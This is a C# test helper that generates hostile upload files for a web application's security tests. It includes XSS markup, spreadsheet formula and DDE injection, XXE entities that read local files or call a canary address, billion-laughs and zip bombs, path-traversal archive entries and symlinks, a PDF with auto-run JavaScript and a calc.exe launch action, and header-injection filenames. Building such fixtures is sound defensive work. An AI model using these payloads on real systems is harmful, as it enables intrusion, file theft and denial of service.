using System.Formats.Tar;
using System.Globalization;
using System.IO.Compression;
using System.Text;

namespace Azukari.Web.Tests.Security.Hostile;

/// <summary>What a hostile file is, and what becomes of it.</summary>
/// <param name="Name">Its name.</param>
/// <param name="Make">Makes it: an address that it names, and a file of the machine.</param>
/// <param name="Shown">What is seen of it when it is looked at, as text; null where it is not shown at all.</param>
sealed record HostileFile(string Name, Func<Target, byte[]> Make, string? Shown = null);

/// <summary>What hostile files reach for.</summary>
/// <param name="Address">An address that would tell that it was asked.</param>
/// <param name="File">A file of the machine.</param>
/// <param name="Mark">A text of the content that is to be seen on pages alone.</param>
sealed record Target(string Address, string File, string Mark);

/// <summary>Files made to attack: markup and formulas, names that lead elsewhere, bombs, documents that fetch.</summary>
static class HostileFiles
{
    internal const string Markup = "\"'></title></table><script>alert(1)</script><img src=x onerror=alert(1)>";

    const string Sheets = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
    const string Offices = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    const string Package = "http://schemas.openxmlformats.org/package/2006";

    internal static IReadOnlyList<HostileFile> All { get; } =
    [
        new("markup.csv", t => Utf8($"{Markup},値\n{t.Mark}{Markup},=HYPERLINK(\"\"{t.Address}\"\")\n+1-1,@SUM(A1)\n{Markup},-2\n"), Markup),
        new("wide.csv", t => Utf8($"{string.Join(',', Enumerable.Range(0, 3_000).Select(i => $"c{i}"))}\n{string.Concat(Enumerable.Range(0, 40).Select(_ => $"{t.Mark}{string.Concat(Enumerable.Repeat(",x", 2_999))}\n"))}"), "はじめの500列"),
        new("long.csv", t => Utf8($"a,b\n{string.Concat(Enumerable.Range(0, 6).Select(i => $"{t.Mark},{new string('x', 9 << 20)}\n"))}"), "xxxx"),
        new("commas.csv", t => Utf8($"a,b\n{t.Mark},2\n" + new string(',', 3_000_000) + "\n")),
        new("endless.csv", t => Utf8($"a,b\n{t.Mark},\"" + new string('y', 20 << 20))),
        new("broken.csv", t => [.. Utf8($"a,b\n{t.Mark},"), 0xFF, 0xFE, 0x80, 0xED, 0xA0, 0x80, .. "\n\u001B[2J\u0007,2\n"u8]),
        new("markup.xlsx", t => Workbook(
            [Markup, $"=WEBSERVICE(\"{t.Address}\")"],
            [
                Sheet($"<row><c t=\"inlineStr\"><is><t>列</t></is></c><c t=\"inlineStr\"><is><t>値</t></is></c></row><row><c t=\"inlineStr\"><is><t>{t.Mark}{Xml(Markup)}</t></is></c><c t=\"str\"><f>WEBSERVICE(\"{t.Address}\")</f><v>=cmd|'/C calc'!A0</v></c></row>"),
                Sheet("<row><c t=\"inlineStr\"><is><t>a</t></is></c></row>"),
            ],
            ("xl/externalLinks/_rels/externalLink1.xml.rels", $"<Relationships xmlns=\"{Package}/relationships\"><Relationship Id=\"r1\" Type=\"{Offices}/externalLinkPath\" Target=\"{t.Address}\" TargetMode=\"External\"/></Relationships>"),
            ("xl/connections.xml", $"<connections xmlns=\"{Sheets}\"><connection id=\"1\"><webPr url=\"{t.Address}\"/></connection></connections>")), Markup),
        new("laughs.xlsx", t => Workbook(["a"], [$"<!DOCTYPE x [{Laughs()}]>" + Sheet($"<row><c t=\"inlineStr\"><is><t>{t.Mark}&l9;</t></is></c></row>")])),
        new("fetching.xlsx", t => Workbook(["a"], [$"<!DOCTYPE x [<!ENTITY f SYSTEM \"file://{t.File}\"><!ENTITY h SYSTEM \"{t.Address}\">]>" + Sheet($"<row><c t=\"inlineStr\"><is><t>{t.Mark}&f;&h;</t></is></c></row>")])),
        new("pieces.xlsx", t => Workbook(["a"], [Sheet($"<row><c t=\"str\"><v>{t.Mark}{string.Concat(Enumerable.Repeat("<![CDATA[x]]>", 1_200_000))}</v></c></row>")])),
        new("deep.xlsx", t => Workbook(["a"], [Sheet($"<row><c><v>{t.Mark}</v></c></row>" + string.Concat(Enumerable.Repeat("<a>", 4_000_000)))])),
        new("attribute.xlsx", t => Workbook(["a"], [Sheet($"<row><c t=\"str\" x=\"{new string('x', 40 << 20)}\"><v>{t.Mark}</v></c></row>")])),
        new("strings.xlsx", t => Zip([.. Parts(["a"], [Sheet($"<row><c t=\"str\"><v>{t.Mark}</v></c></row>")], strings: string.Concat(Enumerable.Repeat("<si/>", 9_000_000)))])),
        new("names.xlsx", t => Workbook(["a"], [Sheet($"<row><c t=\"str\"><v>{t.Mark}</v></c></row>{string.Concat(Enumerable.Range(0, 300_000).Select(i => $"<n{i}/>"))}")])),
        new("sheets.xlsx", t => Workbook([.. Enumerable.Repeat("シート", 20_000)], [Sheet($"<row><c t=\"str\"><v>{t.Mark}</v></c></row>")])),
        new("script.pdf", Pdf, Markup),
        new("bomb.zip", _ => Bomb()),
        new("nested.zip", t => Enumerable.Range(0, 60).Aggregate(Zip([("leaf.txt", Utf8(t.Mark))]), (inner, i) => Zip([($"{i}.zip", inner)]))),
        new("many.zip", t => Zip(Enumerable.Range(0, 100_000).Select(i => ($"{i}", i == 0 ? Utf8(t.Mark) : [])))),
        new("leading.zip", t => Zip(
        [
            ("../../../../kanaria-out.txt", Utf8(t.Mark)), ("..\\..\\kanaria-back.txt", Utf8(t.Mark)), ("/tmp/kanaria-root.txt", Utf8(t.Mark)), ("C:\\kanaria-drive.txt", Utf8(t.Mark)),
            ("same.txt", Utf8(t.Mark)), ("same.txt", Utf8("other")), ("con", Utf8("x")), ($"{Markup}.txt", Utf8("x")), (new string('n', 60_000), Utf8("x")),
        ])),
        new("links.tar", Tar),
        new("laughs.xml", t => Utf8($"<?xml version=\"1.0\"?><!DOCTYPE x [{Laughs()}]><x>{t.Mark}&l9;</x>\n"), "&l9;"),
        new("fetching.xml", t => Utf8($"<?xml version=\"1.0\"?><!DOCTYPE x SYSTEM \"{t.Address}\" [<!ENTITY f SYSTEM \"file://{t.File}\"><!ENTITY % p SYSTEM \"{t.Address}\">%p;]><x>{t.Mark}&f;</x>\n"), "&f;"),
        new("deep.xml", t => Utf8($"<x>{t.Mark}\n{string.Concat(Enumerable.Repeat("<a b='1'>", 500_000))}\n")),
        new("attribute.xml", t => Utf8($"<x>{t.Mark}</x><y z=\"{new string('z', 12 << 20)}\"/>\n")),
        new("deep.json", t => Utf8($"{{\"a\":\"{t.Mark}\",\"b\":\n{new string('[', 3_000_000)}")),
        new("picture.svg", t => Utf8($"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert('{t.Mark}')</script>\n<image href=\"{t.Address}\"/></svg>\n"), "onload"),
        new("page.html", t => Utf8($"<html><body onload=alert(1)>{t.Mark}<iframe src=\"{t.Address}\"></iframe>\n{Markup}</body></html>\n"), "iframe"),
        new("letter.eml", t => Utf8(
            $"From: a@example.jp\r\nSubject: {t.Mark}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<img src=\"{t.Address}\">{Markup}\r\n"
            + $"--b\r\nContent-Type: message/external-body; access-type=URL; URL=\"{t.Address}\"\r\n\r\n--b\r\nContent-Disposition: attachment; filename=\"../../kanaria-mail.txt\"\r\n\r\n{t.Mark}\r\n--b--\r\n"), "img src"),
        new("document.rtf", t => Utf8($"{{\\rtf1 {t.Mark}{{\\field{{\\*\\fldinst INCLUDEPICTURE \"{t.Address}\"}}}}{{\\object\\objautlink{{\\*\\objdata {new string('0', 3_000_000)}}}}}}}")),
    ];

    /// <summary>Names of files that attack by themselves.</summary>
    internal static IReadOnlyList<string> Names { get; } =
    [
        $"{Markup}.csv", "=cmd|' calc'!A0.csv", "@SUM(1+1).csv", "../../kanaria-name.csv", "\u202Egpj.csv", "a\u0000b.csv", "x\r\nSet-Cookie: kanaria=1.csv", new string('長', 240) + ".csv",
    ];

    /// <summary>A workbook with a sheet for each part; where there are more names than parts, they name the first.</summary>
    internal static byte[] Workbook(string[] names, string[] sheets, params (string Name, string Text)[] more) =>
        Zip([.. Parts(names, sheets), .. more.Select(m => (m.Name, Utf8(m.Text)))]);

    internal static string Sheet(string rows) => $"<worksheet xmlns=\"{Sheets}\"><sheetData>{rows}</sheetData></worksheet>";

    internal static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);

    static IEnumerable<(string, byte[])> Parts(string[] names, string[] sheets, string strings = "") =>
    [
        ("[Content_Types].xml", Utf8($"<Types xmlns=\"{Package}/content-types\"><Default Extension=\"xml\" ContentType=\"application/xml\"/></Types>")),
        ("_rels/.rels", Utf8($"<Relationships xmlns=\"{Package}/relationships\"><Relationship Id=\"r1\" Type=\"{Offices}/officeDocument\" Target=\"xl/workbook.xml\"/></Relationships>")),
        ("xl/workbook.xml", Utf8($"<workbook xmlns=\"{Sheets}\" xmlns:r=\"{Offices}\"><sheets>{string.Concat(names.Select((n, i) => $"<sheet name=\"{Xml(n)}\" sheetId=\"{i + 1}\" r:id=\"s{(i < sheets.Length ? i : 0)}\"/>"))}</sheets></workbook>")),
        ("xl/_rels/workbook.xml.rels", Utf8($"<Relationships xmlns=\"{Package}/relationships\">{string.Concat(sheets.Select((_, i) => $"<Relationship Id=\"s{i}\" Type=\"{Offices}/worksheet\" Target=\"worksheets/sheet{i}.xml\"/>"))}<Relationship Id=\"t\" Type=\"{Offices}/sharedStrings\" Target=\"sharedStrings.xml\"/></Relationships>")),
        ("xl/sharedStrings.xml", Utf8($"<sst xmlns=\"{Sheets}\">{strings}</sst>")),
        .. sheets.Select((s, i) => ($"xl/worksheets/sheet{i}.xml", Utf8(s))),
    ];

    static byte[] Zip(IEnumerable<(string Name, byte[] Content)> entries)
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach ((string name, byte[] content) in entries)
            {
                using Stream entry = zip.CreateEntry(name, CompressionLevel.Fastest).Open();
                entry.Write(content);
            }
        }

        return stream.ToArray();
    }

    static byte[] Bomb()
    {
        byte[] file = Zip(Enumerable.Range(0, 8).Select(i => ($"{i}", new byte[4 << 20])));
        for (int level = 0; level < 4; level++)
        {
            byte[] inner = file;
            file = Zip(Enumerable.Range(0, 16).Select(i => ($"{i}.zip", inner)));
        }

        return file;
    }

    static byte[] Tar(Target t)
    {
        using var stream = new MemoryStream();
        using (var tar = new TarWriter(stream, leaveOpen: true))
        {
            tar.WriteEntry(new PaxTarEntry(TarEntryType.SymbolicLink, "link") { LinkName = t.File });
            tar.WriteEntry(new PaxTarEntry(TarEntryType.HardLink, "hard") { LinkName = t.File });
            tar.WriteEntry(new PaxTarEntry(TarEntryType.SymbolicLink, "folder") { LinkName = Path.GetDirectoryName(t.File)! });
            tar.WriteEntry(new PaxTarEntry(TarEntryType.RegularFile, "folder/kanaria-link.txt") { DataStream = new MemoryStream(Utf8(t.Mark)) });
            tar.WriteEntry(new PaxTarEntry(TarEntryType.RegularFile, "../../kanaria-tar.txt") { DataStream = new MemoryStream(Utf8(t.Mark)) });
            tar.WriteEntry(new PaxTarEntry(TarEntryType.CharacterDevice, "device") { DeviceMajor = 1, DeviceMinor = 5 });
        }

        return stream.ToArray();
    }

    /// <summary>A page that says markup, with a title, an outline, scripts, links and a file that attack.</summary>
    static byte[] Pdf(Target t)
    {
        var file = new StringBuilder("%PDF-1.7\n");
        List<int> offsets = [];
        void Add(string text)
        {
            offsets.Add(file.Length);
            file.Append(CultureInfo.InvariantCulture, $"{offsets.Count} 0 obj\n{text}\nendobj\n");
        }

        string shown = Markup.Replace("(", "\\(", StringComparison.Ordinal).Replace(")", "\\)", StringComparison.Ordinal);
        string page = $"BT /F1 8 Tf 20 700 Td ({shown}) Tj 0 -20 Td (=HYPERLINK {t.Mark.Where(char.IsAscii).Aggregate("", (s, c) => s + c)}) Tj ET";
        Add($"<</Type/Catalog/Pages 2 0 R/Outlines 6 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\('{t.Address}'\\))>>/Names<</EmbeddedFiles<</Names[(x) 8 0 R]>>>>>>");
        Add("<</Type/Pages/Kids[3 0 R]/Count 1>>");
        Add($"<</Type/Page/Parent 2 0 R/MediaBox[0 0 800 800]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>/AA<</O<</S/URI/URI({t.Address})>>>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(calc.exe)>>>>]>>");
        Add($"<</Length {page.Length}>>\nstream\n{page}\nendstream");
        Add("<</Type/Font/Subtype/Type1/BaseFont/Courier/Encoding/WinAnsiEncoding>>");
        Add("<</Type/Outlines/First 7 0 R/Last 7 0 R/Count 1>>");
        Add($"<</Title({shown})/Parent 6 0 R/A<</S/GoToR/F<</FS/URL/F({t.Address})>>>>>>");
        Add("<</Type/Filespec/F(../../kanaria-pdf.txt)/EF<</F 9 0 R>>>>");
        Add("<</Type/EmbeddedFile/Length 1>>\nstream\nx\nendstream");
        Add($"<</Title({shown})/Author({shown})/Producer(=cmd)>>");
        int start = file.Length;
        file.Append(CultureInfo.InvariantCulture, $"xref\n0 {offsets.Count + 1}\n0000000000 65535 f \n");
        offsets.ForEach(o => file.Append(CultureInfo.InvariantCulture, $"{o:D10} 00000 n \n"));
        file.Append(CultureInfo.InvariantCulture, $"trailer<</Size {offsets.Count + 1}/Root 1 0 R/Info {offsets.Count} 0 R>>\nstartxref\n{start}\n%%EOF\n");
        return Encoding.Latin1.GetBytes(file.ToString());
    }

    static string Laughs() => "<!ENTITY l0 \"ha\">" + string.Concat(Enumerable.Range(1, 9).Select(i => $"<!ENTITY l{i} \"{string.Concat(Enumerable.Repeat($"&l{i - 1};", 10))}\">"));

    static string Xml(string text) => System.Security.SecurityElement.Escape(text);
}
